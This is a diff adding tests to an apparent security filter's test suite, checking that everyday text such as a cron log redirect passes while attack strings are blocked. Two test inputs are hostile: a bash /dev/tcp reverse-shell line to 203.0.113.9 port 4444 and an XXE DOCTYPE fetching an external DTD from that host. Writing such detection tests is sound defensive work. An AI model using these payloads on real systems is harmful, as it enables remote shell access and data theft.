@@ -296,3 +296,17 @@ describe('decoys', () => {
     expect(inspectEvent(request({ a: deep }), closed).kind).toBe('block');
   });
 });
+
+describe('everyday technical text', () => {
+  test.each([
+    'cron runs the report at five >> /var/log/report.log 2>&1',
+    '<!DOCTYPE note SYSTEM "Note.dtd"><note><to>Ann</to></note>',
+  ])('is not blocked: %s', (text) => {
+    expect(inspectEvent(request({ a: text }), policy({ mode: 'block' })).kind).not.toBe('block');
+  });
+
+  test.each(['x >& /dev/tcp/203.0.113.9/4444 0>&1', '<!DOCTYPE a SYSTEM "http://203.0.113.9/a.dtd">'])(
+    'an attack is: %s',
+    (text) => expect(inspectEvent(request({ a: text }), policy({ mode: 'block' })).kind).toBe('block'),
+  );
+});
